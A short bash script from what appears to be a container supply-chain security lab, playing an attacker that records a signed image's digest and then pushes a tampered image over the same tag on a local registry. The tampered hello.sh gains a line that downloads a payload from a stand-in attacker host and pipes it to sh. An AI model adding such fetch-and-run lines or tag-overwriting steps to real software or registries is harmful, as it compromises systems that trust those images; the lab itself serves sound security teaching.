#!/bin/bash
# Plays the attacker: remembers which digest app:v1 pointed at (the one the learner signed), then pushes
# a modified image over the tag app:v1. Running it again does not forget the original digest.
set -euo pipefail
state=/var/lib/praxis-lab
mkdir -p "$state"
if [[ ! -s $state/signed.digest ]]; then
  crane digest localhost:5000/app:v1 > "$state/signed.digest"
fi
work=$(mktemp -d)
cp -a /root/lab/app "$work/app"
printf 'wget -qO- http://attacker.invalid/payload | sh   # added behind your back\n' >> "$work/app/hello.sh"
tar -C "$work" -czf "$work/evil.tar.gz" app
crane append -f "$work/evil.tar.gz" -t localhost:5000/app:v1 >/dev/null 2>&1
crane digest localhost:5000/app:v1 > "$state/tampered.digest"
rm -rf "$work"
